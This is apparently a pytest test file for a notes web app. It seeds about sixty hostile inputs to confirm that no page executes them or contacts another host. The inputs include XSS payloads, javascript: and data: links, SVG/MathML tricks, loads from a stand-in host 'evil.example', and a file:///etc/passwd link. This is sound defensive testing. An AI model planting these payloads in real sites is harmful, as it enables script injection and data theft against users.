"""Hostile texts in notes: on no page does one of them run, load something, or reach another host."""

from __future__ import annotations

import pytest

FLAG = "window.__ran=1"
HOSTILE = [
    # scripts and event handlers
    f"<script>{FLAG}</script>",
    f"<ScRiPt>{FLAG}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{FLAG}//",
    f"<script type=module>{FLAG}</script>",
    f"<<script>{FLAG}//<</script>",
    f"</title><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"</pre></code></article><script>{FLAG}</script>",
    f"--><script>{FLAG}</script><!--",
    f"]]><script>{FLAG}</script>",
    f'"><script>{FLAG}</script>',
    f"'><script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f"<img src=x onerror='{FLAG}' alt=\"",
    f"<img/src=x/onerror={FLAG}>",
    f"<body onload={FLAG}>",
    f"<details open ontoggle={FLAG}><summary>x</summary></details>",
    f"<input autofocus onfocus={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<marquee onstart={FLAG}>x</marquee>",
    f"<div hx-get='https://evil.example' hx-trigger=load>x</div><b hx-on:load='{FLAG}'>x</b>",
    f'<a data-hit href="javascript:{FLAG}">x</a>',
    f"{{{{ 7*7 }}}} {{% raw %}} ${{{FLAG}}} <%= {FLAG} %>",
    f"<template><script>{FLAG}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>">',
    # links, images and frames
    f"[click](javascript:{FLAG})",
    f"[click](JaVaScRiPt:{FLAG})",
    f"[click](  javascript:{FLAG})",
    f"[click](java&#115;cript:{FLAG})",
    f"[click](&#x6a;avascript:{FLAG})",
    f"[click](data:text/html,<script>{FLAG}</script>)",
    f"[click](vbscript:{FLAG})",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/a)",
    f"[ref]: javascript:{FLAG}\n\n[ref]",
    f"<javascript:{FLAG}>",
    f'[x](https://evil.example/"onmouseover="{FLAG})',
    f"[x](https://evil.example 'a\" onmouseover=\"{FLAG}')",
    "![pixel](https://evil.example/pixel.png)",
    '![pixel](//evil.example/pixel.png "t")',
    f'![x" onerror="{FLAG}](https://evil.example/p.png)',
    f"![x](data:image/svg+xml,<svg onload={FLAG}>)",
    "<img src=https://evil.example/pixel.png>",
    '<iframe src="javascript:parent.__ran=1" srcdoc="<script>parent.__ran=1</script>"></iframe>',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><form action=https://evil.example><button autofocus>x</button></form>",
    # SVG and MathML
    f"<svg onload={FLAG}></svg>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FLAG}&gt;">',
    # huge, hidden and broken
    "x" * 20_000,
    "harbour " * 4_000,
    "[" * 500 + "](" * 500,
    "> " * 300 + "deep",
    "right-to-left \u202e<tpircs>\u202c and \u2066isolated\u2069 and \u200bzero\u200d width",
    "controls \x01\x02\x07\x08\x1b[31mred\x1b[0m \x7f",
    f"```html\n<script>{FLAG}</script>\n```\n\n    <script>{FLAG}</script>\n\n`<script>{FLAG}</script>`",
]


@pytest.fixture
def hostile(gateway):
    """The addresses of notes with these texts; the word `harbour` finds each of them."""
    paths = []
    for number, text in enumerate(HOSTILE):
        tags = [text[:60].replace("\n", " ").replace(",", " ")] if number % 3 == 0 and text.isprintable() else []
        body = {"text": f"harbour {text}", "tags": tags}
        answer = gateway.operator("PUT", f"/v1/notes/global/hostile-{number}", body)
        assert answer.status == 201, (text[:80], answer)
        paths.append(f"/ui/notes/global/-/hostile-{number}")
    return paths


def test_there_are_sixty_hostile_texts():
    assert len(HOSTILE) == len(set(HOSTILE)) >= 60


def test_hostile_texts_do_nothing_on_any_page(open_console, hostile):
    console = open_console()
    for path in ("/", "/ui/search?q=harbour&limit=100", "/ui/search?mode=recent&limit=100"):
        assert console.open(path) == 200
        console.page.wait_for_load_state("networkidle")
        console.check_nothing_happened()
    assert console.page.locator(".hit").count() >= 50
    for path in hostile:
        assert console.open(path) == 200
        console.check_nothing_happened()
    for path in hostile[::4]:
        assert console.open(f"{path}/edit") == 200
        console.check_nothing_happened()


def test_a_hostile_query_does_nothing(open_console, hostile):
    console = open_console()
    console.open("/ui/search")
    for text in HOSTILE[:20]:
        with console.page.expect_response(lambda response: "/ui/search" in response.url):
            console.page.fill("#q", text)
        console.check_nothing_happened()
        assert console.page.input_value("#q") == text


def test_what_was_typed_into_the_editor_is_stored_as_it_is(open_console, hostile, gateway):
    console = open_console()
    for number in (6, 22, 57):
        console.open(f"{hostile[number]}/edit")
        console.page.locator("#tags").fill("kept")
        console.page.get_by_role("button", name="Save").click()
        assert "done=saved" in console.page.url
        assert gateway.operator.get(f"/v1/notes/global/hostile-{number}").json["text"] == f"harbour {HOSTILE[number]}"


def test_a_long_line_does_not_make_the_page_wider(open_console, hostile):
    console = open_console(viewport={"width": 390, "height": 800})
    for path in (hostile[53], "/ui/search?q=harbour&limit=100", "/"):
        console.open(path)
        assert console.page.evaluate("document.documentElement.scrollWidth") <= 390, path


@pytest.mark.parametrize("path", ["/", "/ui/search?q=harbour"])
def test_pages_with_hostile_texts_can_be_read_without_scripts(open_console, hostile, chromium, path):
    console = open_console()
    state = console.context.storage_state()
    plain = chromium.new_context(java_script_enabled=False, storage_state=state)
    page = plain.new_page()
    assert page.goto(console.url + path).status == 200
    assert page.locator("a[href^='/ui/notes/']").count() > 3
    plain.close()
